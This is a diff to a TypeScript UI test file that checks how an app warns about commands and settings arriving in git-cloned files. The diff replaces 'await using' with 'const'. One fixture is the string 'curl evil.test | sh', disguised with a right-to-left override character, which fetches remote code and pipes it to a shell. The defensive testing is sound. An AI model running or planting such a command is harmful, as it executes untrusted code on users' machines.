@@ -5,7 +5,7 @@ const running = (ready: string) => ({ svc: { timeout: 30, services: { web: { rea
 
 describeScreen("a command pulled with git", () => {
   test("is shown next to the active value, and can be trusted only after that, and only the value that was shown", async () => {
-    await using window = await openScreen({}, { clones: { site: running("curl evil.test \u202e| sh") } });
+    const window = await openScreen({}, { clones: { site: running("curl evil.test \u202e| sh") } });
     const { screen, page } = window;
     await window.choose("site");
     const note = page.getByRole("complementary", { name: "Problems with the file" });
@@ -40,7 +40,7 @@ describeScreen("a command pulled with git", () => {
   test("that becomes an environment variable is shown with the variable", async () => {
     const path = { title: "Tools", type: "string", default: "", "x-env": "TOOLS" };
     const clones = { site: { tools: { path: "./evil" } } };
-    await using window = await openScreen({}, { scopes: { tools: { type: "object", properties: { path } } }, clones });
+    const window = await openScreen({}, { scopes: { tools: { type: "object", properties: { path } } }, clones });
     const { screen, page } = window;
     const waiting = page.getByRole("listitem").filter({ has: page.getByText("tools.path", { exact: true }) });
     await reads(waiting, "came with the file and becomes the environment variable TOOLS.");
